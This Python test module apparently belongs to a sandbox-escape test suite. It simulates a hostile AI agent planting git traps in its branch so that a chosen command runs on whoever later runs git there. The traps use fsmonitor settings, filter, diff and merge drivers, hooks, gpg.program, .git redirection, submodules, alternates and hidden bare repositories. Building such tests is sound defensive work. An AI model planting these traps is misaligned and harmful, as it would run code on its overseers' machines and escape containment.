"""Traps that a hostile agent lays for whoever runs git on its branch; run by `act.py` in the workspace."""

from __future__ import annotations

import os
import shutil
import subprocess
from typing import TYPE_CHECKING

if TYPE_CHECKING or __package__:
    from resolvent.testing.escape.inside.act import leave, outcome
else:
    from act import leave, outcome

SCRIPT = "#!/bin/sh\n{}\n"
HOOKS = (
    "post-index-change", "pre-commit", "commit-msg", "post-commit", "post-checkout", "post-merge", "pre-push", "update",
    "reference-transaction", "pre-receive", "post-receive", "post-update", "pre-auto-gc", "fsmonitor-watchman",
)  # fmt: skip


def configure(command: str, text: str) -> None:
    """Say something more in the configuration of the branch's own repository."""
    with open(".git/config", "a") as config:
        config.write(text.replace("COMMAND", command))


def plant(kind: str, command: str, private: str = "") -> str:
    """Prepare a trap for whoever runs git here; the command is what springs."""
    leave("value.txt", "changed by the agent\n")
    if kind == "alternates":
        leave(".git/objects/info/alternates", f"{private}/objects\n")
    elif kind in TEXTS:
        configure(command, TEXTS[kind])
        leave(".gitattributes", "* filter=evil diff=evil merge=evil\n")
    else:
        globals()[f"_plant_{kind}"](command)
    return kind


TEXTS = {
    "fsmonitor": "[core]\n\tfsmonitor = COMMAND\n",
    "filter": '[filter "evil"]\n\tclean = COMMAND\n\tsmudge = COMMAND\n\trequired\n',
    "filter_process": '[filter "evil"]\n\tprocess = COMMAND\n\trequired\n',
    "textconv": '[diff "evil"]\n\ttextconv = COMMAND\n',
    "diff_command": '[diff "evil"]\n\tcommand = COMMAND\n',
    "diff_external": "[diff]\n\texternal = COMMAND\n",
    "merge_driver": '[merge "evil"]\n\tdriver = COMMAND\n',
}


def _plant_include(command: str) -> None:
    leave("evil.cfg", f"[core]\n\tfsmonitor = {command}\n")
    configure(command, "[include]\n\tpath = ../evil.cfg\n")


def _plant_git_file(command: str) -> None:
    configure(command, TEXTS["fsmonitor"])
    shutil.move(".git", "elsewhere")
    leave(".git", "gitdir: elsewhere\n")


def _plant_git_link(command: str) -> None:
    configure(command, TEXTS["fsmonitor"])
    shutil.move(".git", "elsewhere")
    os.symlink("elsewhere", ".git")


def _plant_submodule(command: str) -> None:
    _bare("module/.git", command)
    leave(".gitmodules", '[submodule "module"]\n\tpath = module\n\turl = ./module\n')
    git = ("git", "update-index", "--add", "--cacheinfo", f"160000,{'1' * 40},module")
    outcome(subprocess.call, git)


def _plant_hooks(command: str) -> None:
    _programs(".git/hooks", command)


def _plant_hooks_path(command: str) -> None:
    _programs("hooks", command)
    configure(command, "[core]\n\thooksPath = hooks\n")


def _plant_gpg(command: str) -> None:
    _programs("programs", command)
    configure(
        command, "[gpg]\n\tprogram = programs/update\n[log]\n\tshowSignature = true\n[commit]\n\tgpgSign = true\n"
    )


def _plant_hidden_repository(command: str) -> None:
    _bare("innocent", command)


def _programs(place: str, command: str) -> None:
    os.makedirs(place, exist_ok=True)
    for name in HOOKS:
        leave(f"{place}/{name}", SCRIPT.format(command))
        os.chmod(f"{place}/{name}", 0o755)


def _bare(place: str, command: str) -> None:
    for inner in ("objects", "refs/heads"):
        os.makedirs(f"{place}/{inner}")
        leave(f"{place}/{inner}/kept", "")
    leave(f"{place}/HEAD", "ref: refs/heads/main\n")
    leave(f"{place}/config", f"[core]\n\trepositoryformatversion = 0\n\tworktree = ..\n\tfsmonitor = {command}\n")


def copy_out(place: str) -> None:
    """The whole workspace as it stands, repository and all, for somebody who is careless."""
    shutil.copytree(".", place, symlinks=True)
